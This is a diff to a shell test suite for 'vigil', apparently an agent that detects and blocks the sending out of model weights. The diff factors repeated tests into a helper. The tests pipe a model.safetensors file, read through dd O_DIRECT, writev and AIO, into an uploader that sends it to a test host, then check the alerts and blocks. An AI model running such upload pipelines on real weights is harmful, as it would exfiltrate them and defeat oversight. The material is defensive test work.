@@ -281,14 +281,35 @@ small_send() {
 
 # ---- other read paths -----------------------------------------------------
 
+# piped_upload MODE WRITER...: WRITER (a command) puts the weights on its
+# stdout, an uploader in the same pipeline sends what it reads to the test
+# host: monitor — all 4 MiB arrive and the uploader is alerted, tainted via
+# pipe; enforce — it is stopped at the budget
+piped_upload() {
+	local mode="$1" flags="--stdin"
+	shift
+	[ "$mode" = enforce ] && flags="--connect-first --stdin"
+	start_sink tcp
+	start_agent --mode "$mode"
+	run in_cg env EXFIL="$EXFIL" FLAGS="$flags" HOST="$PEER4" DPORT="$PORT" \
+		sh -c '"$@" | python3 "$EXFIL" $FLAGS --host "$HOST" --port "$DPORT"' sh "$@"
+	if [ "$mode" = enforce ]; then
+		[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
+		[ "$(sink_bytes)" -le "$BUDGET" ]
+		run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
+			taint.chain.1.via=pipe action~e
+	else
+		[ "$status" -eq 0 ]
+		[ "$(sink_bytes)" -eq $((4 << 20)) ]
+		run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
+			taint.chain.1.via=pipe
+	fi
+	[ "$status" -eq 0 ]
+}
+
 @test "propagate: monitor: O_DIRECT reads taint (dd iflag=direct | uploader)" {
 	require_capability direct
-	start_sink tcp
-	start_agent --mode monitor
-	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --stdin --host "$3" --port "$4"' \
-		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
-	[ "$status" -eq 0 ]
-	[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	piped_upload monitor dd if="$W/model.safetensors" iflag=direct bs=1M status=none
 	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
 		taint.sources.0.bytes_read'>='4194304 taint.chain.0.comm=dd taint.chain.0.via=read \
 		taint.chain.1.via=pipe
@@ -297,12 +318,7 @@ small_send() {
 
 @test "propagate: enforce: O_DIRECT reads taint: the uploader is stopped" {
 	require_capability direct
-	start_sink tcp
-	start_agent --mode enforce
-	run in_cg sh -c 'dd if="$1" iflag=direct bs=1M status=none | python3 "$2" --connect-first --stdin --host "$3" --port "$4"' \
-		sh "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
-	[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
-	[ "$(sink_bytes)" -le "$BUDGET" ]
+	piped_upload enforce dd if="$W/model.safetensors" iflag=direct bs=1M status=none
 	run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
 		taint.chain.0.comm=dd taint.chain.1.via=pipe action~e
 	[ "$status" -eq 0 ]
@@ -313,39 +329,18 @@ small_send() {
 # fails, so vigil cannot read how much the call writes. It fails closed:
 # the pipe's reader is tainted as if the threshold of weights had passed.
 @test "propagate: monitor: a writev whose iovecs vigil cannot read still taints the pipe's reader" {
-	start_sink tcp
-	start_agent --mode monitor
-	run in_cg sh -c 'python3 "$1" "$2" - | python3 "$3" --stdin --host "$4" --port "$5"' \
-		sh "$SCEN/writev_unread.py" "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
-	[ "$status" -eq 0 ]
-	[ "$(sink_bytes)" -eq $((4 << 20)) ]
-	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
-		taint.chain.1.via=pipe
-	[ "$status" -eq 0 ]
+	piped_upload monitor python3 "$SCEN/writev_unread.py" "$W/model.safetensors" -
 }
 
 @test "propagate: enforce: a writev whose iovecs vigil cannot read still taints the pipe's reader: stopped at the budget" {
-	start_sink tcp
-	start_agent --mode enforce
-	run in_cg sh -c 'python3 "$1" "$2" - | python3 "$3" --connect-first --stdin --host "$4" --port "$5"' \
-		sh "$SCEN/writev_unread.py" "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
-	[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
-	[ "$(sink_bytes)" -le "$BUDGET" ]
-	run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
-		taint.chain.1.via=pipe action~e
-	[ "$status" -eq 0 ]
+	piped_upload enforce python3 "$SCEN/writev_unread.py" "$W/model.safetensors" -
 }
 
 # Linux native AIO with O_DIRECT (libaio's io_submit, as databases and some
 # checkpoint loaders read): no read() syscall at all
 @test "propagate: monitor: AIO (io_submit) O_DIRECT reads taint the reader" {
 	require_capability direct
-	start_sink tcp
-	start_agent --mode monitor
-	run in_cg sh -c 'python3 "$1" "$2" | python3 "$3" --stdin --host "$4" --port "$5"' \
-		sh "$SCEN/aio_read.py" "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
-	[ "$status" -eq 0 ]
-	[ "$(sink_bytes)" -eq $((4 << 20)) ]
+	piped_upload monitor python3 "$SCEN/aio_read.py" "$W/model.safetensors"
 	run alert_wait rule=weights-egress taint.sources.0.path="$W/model.safetensors" \
 		taint.sources.0.bytes_read'>='4194304 taint.chain.0.via=read \
 		taint.chain.0.comm=python3 taint.chain.1.via=pipe
@@ -354,15 +349,7 @@ small_send() {
 
 @test "propagate: enforce: AIO (io_submit) O_DIRECT reads taint: the uploader is stopped" {
 	require_capability direct
-	start_sink tcp
-	start_agent --mode enforce
-	run in_cg sh -c 'python3 "$1" "$2" | python3 "$3" --connect-first --stdin --host "$4" --port "$5"' \
-		sh "$SCEN/aio_read.py" "$W/model.safetensors" "$EXFIL" "$PEER4" "$PORT"
-	[ "$status" -eq 137 ] || [ "$status" -eq 3 ]
-	[ "$(sink_bytes)" -le "$BUDGET" ]
-	run alert_wait mode=enforce taint.sources.0.path="$W/model.safetensors" \
-		taint.chain.1.via=pipe action~e
-	[ "$status" -eq 0 ]
+	piped_upload enforce python3 "$SCEN/aio_read.py" "$W/model.safetensors"
 }
 
 @test "propagate: monitor: an O_DIRECT read through a bind mount taints (the real inode)" {
